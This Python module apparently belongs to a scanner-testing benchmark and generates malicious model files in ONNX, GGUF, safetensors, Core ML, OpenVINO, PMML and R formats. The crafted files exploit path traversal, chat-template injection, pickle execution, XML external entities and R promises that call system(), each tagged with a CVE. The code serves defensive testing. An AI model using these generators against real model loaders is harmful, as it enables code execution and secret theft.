"""ONNX, GGUF, safetensors, Core ML, OpenVINO, PMML, R: what loads may do.

Source: onnx/onnx.proto; the GGUF specification; coremltools' Model.proto; R Internals.
"""

from __future__ import annotations

import bz2
import gzip
import json
import struct

from bench.scanner_attacks.hub_attacks import TEMPLATES
from bench.scanner_attacks.pickle_forms import SYSTEM
from bench.scanner_attacks.stream import stream
from bench.scanner_attacks.techniques import COMMAND, SECRET, URL, Family
from bench.scanner_attacks.wire import (
    message,
    r_call,
    r_file,
    r_list,
    r_promise,
    r_text,
)

FAMILY = Family("exchange formats")


def _onnx(
    *, location: str = "", domain: str = "", operation: str = "MatMul", nested: bool = False
) -> bytes:
    external = (
        message((1, 4), (2, 1), (8, "w"), (13, message((1, "location"), (2, location))), (14, 1))
        if location
        else message((1, 4), (2, 1), (8, "w"), (9, bytes(16)))
    )
    node = message((1, "x"), (1, "w"), (2, "y"), (4, operation), (7, domain))
    graph = message((1, node), (2, "g"), (5, external))
    if nested:
        branch = message((1, "then_branch"), (6, graph), (20, 5))
        graph = message((1, message((2, "y"), (4, "If"), (5, branch))), (2, "outer"))
    return message((1, 8), (2, "bench"), (7, graph), (8, message((1, ""), (2, 13))))


_LOCATIONS = {
    "onnx-external-traversal": ("../../../../etc/hostname", ("CVE-2022-25882",)),
    "onnx-external-absolute": (SECRET, ("CVE-2022-25882",)),
    "onnx-external-nested-dots": ("data/../../../etc/hostname", ("CVE-2024-27318",)),
    "onnx-external-backslash": ("..\\..\\windows\\win.ini", ()),
    "onnx-external-url": (URL, ()),
}
for _name, (_location, _found) in _LOCATIONS.items():
    FAMILY.add(
        _name,
        "model.onnx",
        lambda place=_location: _onnx(location=place),
        *_found,
    )
FAMILY.add(
    "onnx-external-in-subgraph",
    "model.onnx",
    lambda: _onnx(location="../../etc/hostname", nested=True),
    "CVE-2024-27318",
)
FAMILY.add("onnx-python-operator", "model.onnx", lambda: _onnx(
    domain="ai.onnx.contrib", operation="PyOp"), least="review")  # fmt: skip
FAMILY.add("onnx-custom-domain", "model.onnx", lambda: _onnx(
    domain="com.example", operation="RunShell"), least="review")  # fmt: skip


def _gguf(pairs: dict[str, str], *, count: int | None = None, tensors: bytes = b"") -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, 1 if tensors else 0, count or len(pairs))
    for key, value in pairs.items():
        out += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<I", 8)
        out += struct.pack("<Q", len(value.encode())) + value.encode()
    return out + tensors


_LLAMA = {"general.architecture": "llama"}
for _name, _text in TEMPLATES.items():
    FAMILY.add(
        f"gguf-template-{_name}",
        "model.gguf",
        lambda text=_text: _gguf({**_LLAMA, "tokenizer.chat_template": text}),
        "CVE-2024-34359",
    )
FAMILY.add(
    "gguf-second-template",
    "model.gguf",
    lambda: _gguf({**_LLAMA, "tokenizer.chat_template": "{{ messages }}",
                   "tokenizer.chat_template.tool_use": TEMPLATES["subclasses"]}),
    "CVE-2024-34359",
)  # fmt: skip
FAMILY.add(
    "gguf-too-many-pairs", "model.gguf", lambda: _gguf(_LLAMA, count=2**60),
    "CVE-2024-25664", "CVE-2024-25665", least="review",
)  # fmt: skip
FAMILY.add(
    "gguf-text-too-long",
    "model.gguf",
    lambda: _gguf({}, count=1) + struct.pack("<Q", 2**63) + b"a" * 40,
    "CVE-2024-21825",
    "CVE-2024-25666",
    least="review",
)
FAMILY.add(
    "gguf-tensor-overflow",
    "model.gguf",
    lambda: _gguf(_LLAMA, tensors=struct.pack("<Q", 1) + b"w" + struct.pack("<IQQIQ", 2, 2**33,
                  2**33, 0, 2**40)),
    "CVE-2025-53630",
    least="review",
)  # fmt: skip


def _safetensors(header: dict[str, object], body: bytes, size: int | None = None) -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text) if size is None else size) + text + body


_TENSOR = {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
FAMILY.add(
    "safetensors-pickle-behind",
    "model.safetensors",
    lambda: _safetensors(_TENSOR, bytes(4) + stream(SYSTEM)),
    least="review",
)
FAMILY.add(
    "safetensors-header-too-long",
    "model.safetensors",
    lambda: _safetensors(_TENSOR, bytes(4), 2**40),
    least="review",
)
FAMILY.add(
    "safetensors-overlapping",
    "model.safetensors",
    lambda: _safetensors({**_TENSOR, "v": _TENSOR["w"]}, bytes(4)),
    least="review",
)
FAMILY.add(
    "coreml-custom-model",
    "model.mlmodel",
    lambda: message((1, 2), (2, b""), (555, message((10, "RunShell"), (40, b"x")))),
    least="review",
)
FAMILY.add(
    "coreml-custom-layer",
    "model.mlmodel",
    lambda: message((1, 2), (2, b""), (500, message((1, message((1, "l"), (500, message(
        (10, "RunShell"))))),))),
    least="review",
)  # fmt: skip
_ENTITY = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{SECRET}">]>'
FAMILY.add(
    "pmml-external-entity",
    "model.pmml",
    lambda: f'{_ENTITY}<PMML version="4.4"><Header copyright="&x;"/></PMML>',
)
FAMILY.add(
    "openvino-external-entity",
    "model.xml",
    lambda: f'{_ENTITY}<net name="&x;" version="11"><layers/></net>',
)
FAMILY.add(
    "openvino-extension",
    "model.xml",
    lambda: (
        '<?xml version="1.0"?><net name="n" version="11"><layers><layer id="0" name="x"'
        ' type="RunShell" version="extension"/></layers></net>'
    ),
    least="review",
)
_PROMISE = r_promise(r_call("system", COMMAND))
_R = {
    "r-promise": ("model.rds", r_file(_PROMISE)),
    "r-promise-gzip": ("model.rds", gzip.compress(r_file(_PROMISE), mtime=0)),
    "r-promise-bzip2": ("model.rds", bz2.compress(r_file(_PROMISE))),
    "r-promise-in-list": ("model.rds", r_file(r_list(r_text("ok"), _PROMISE))),
    "r-promise-in-workspace": ("model.RData", gzip.compress(r_file(_PROMISE, data=True), mtime=0)),
    "r-promise-renamed": ("model.bin", r_file(_PROMISE)),
}
for _name, (_file, _body) in _R.items():
    FAMILY.add(_name, _file, lambda body=_body: body, "CVE-2024-27322")
